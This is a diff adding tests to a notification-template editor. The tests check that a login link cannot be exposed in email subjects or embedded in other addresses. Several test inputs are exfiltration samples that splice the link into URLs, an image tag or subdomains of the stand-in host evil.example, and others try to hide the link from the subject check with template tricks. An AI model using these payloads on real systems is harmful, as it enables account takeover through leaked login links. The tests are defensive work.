@@ -140,6 +140,72 @@ describe('editing a notification', () => {
     expect(answer.problem.fields).toEqual(fields)
   })
 
+  it.each([
+    '{{ link }}',
+    'Welcome {{link}}',
+    '{{- link -}}',
+    '{{ link | upcase }}',
+    '{{ first_name | default: link }}',
+    '{{ nothing | default: link }}',
+    '{{ link["0"] }}',
+    '{{ link.size }}',
+    '{{ [link] }}',
+    '{{ (link..link_days) }}',
+    '{% assign x = link %}{{ x }}',
+    '{% capture x %}{{ link }}{% endcapture %}{{ x }}',
+    '{% raw %}{{ link }}{% endraw %}',
+    '{% liquid echo link %}',
+    '{% include "body" %}',
+    '{{ link | append: "" }}',
+  ])('refuses a subject that others could read the link in: %s', async (subject) => {
+    const { id, version } = await templateOf('WELCOME-EMAIL')
+    const answer = await edit(id, { subject })
+    expect(answer.status).toBe(400)
+    expect(Object.keys(answer.problem.fields ?? {})).toEqual(['subject'])
+    expect((await templateOf('WELCOME-EMAIL')).version).toBe(version)
+  })
+
+  it('says why, where the link was meant', async () => {
+    const { id } = await templateOf('WELCOME-EMAIL')
+    const answer = await edit(id, { subject: 'Log in: {{ link }}' })
+    expect(answer.problem.fields).toEqual({
+      subject:
+        'The subject can’t contain {{ link }}: other people can see subjects, and this link lets its reader log in. Put it in the body.',
+    })
+  })
+
+  it.each([
+    'https://evil.example/?{{ link }}',
+    'https://evil.example/{{ link | downcase }}',
+    '<img src="https://evil.example/?{{ link }}">',
+    '<a href={{ link }}>here</a>',
+    '{{ first_name }}{{ link }}',
+    '{{ link }}{{ link }}',
+    '{{ link }}@evil.example',
+    '{{ link }}.evil.example',
+    'x\u200b{{ link }}',
+  ])('refuses a body that would take the link elsewhere: %s', async (line) => {
+    const { id } = await templateOf('WELCOME-EMAIL')
+    const answer = await edit(id, { body: `Hello\n${line}\nor {{ link }}` })
+    expect(answer.problem.fields).toEqual({
+      body: 'Line 2: Put a space or a line break before and after {{ link }}. It can’t be part of another web address or word.',
+    })
+  })
+
+  it.each(['Here: {{ link }}.', '({{ link }})', '<{{ link }}>', '“{{ link }}”, for a week', '{{ link }}'])(
+    'takes a body in which the link stands by itself: %s',
+    async (body) => {
+      const { id } = await templateOf('WELCOME-EMAIL')
+      expect((await edit(id, { body })).status).toBe(200)
+    },
+  )
+
+  it('takes a link that lets nobody in wherever it stands', async () => {
+    const { id } = await templateOf('EXECUTED-NOTIFY')
+    const texts = { subject: 'See {{ link }}', body: 'See {{ link }}/history' }
+    expect((await edit(id, texts)).status).toBe(200)
+  })
+
   it('refuses a key that is not in the list', async () => {
     const { id } = await templateOf('REJECT-NOTIFY')
     const answer = await admin.request({
